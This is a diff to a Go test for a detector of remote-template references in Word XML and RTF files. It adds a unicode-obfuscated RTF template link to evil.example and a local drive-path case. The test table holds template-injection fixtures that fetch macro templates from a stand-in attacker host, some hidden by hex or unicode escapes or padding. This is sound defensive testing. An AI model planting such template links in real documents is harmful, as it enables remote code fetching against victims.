@@ -66,6 +66,8 @@ func TestOfficeSigns(t *testing.T) {
 		"word.xml":        {[]byte(`<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument>` + strings.Repeat(" ", 32<<10) + `<w:attachedTemplate w:val="https://evil.example/x.dot"/>`), []Sign{Remote}},
 		"template.rtf":    {[]byte(`{\rtf1{\*\template http://evil.example/x.dotm}text}`), []Sign{Remote}},
 		"octets.rtf":      {[]byte(`{\rtf1{\*\template \'68\'74tp://evil.example/x.dotm}text}`), []Sign{Remote}},
+		"unicode.rtf":     {[]byte(`{\rtf1{\*\template \u104?\u-65420?\uc0\u116 \u112://evil.example\uc2\u47\'3f?x.dotm}text}`), []Sign{Remote}},
+		"drive.rtf":       {[]byte(`{\rtf1{\*\template \u67?:\\\\templates\\x.dotm}text}`), nil},
 		"share.rtf":       {[]byte(`{\rtf1{\*\template \\\\evil\\x.dotm}text}`), []Sign{Remote}},
 		"own.rtf":         {[]byte(`{\rtf1{\*\template C:\\Templates\\Normal.dotm}text}`), nil},
 		"word-only.rtf":   {[]byte(`{\rtf1\templates http://evil.example/x`), nil},
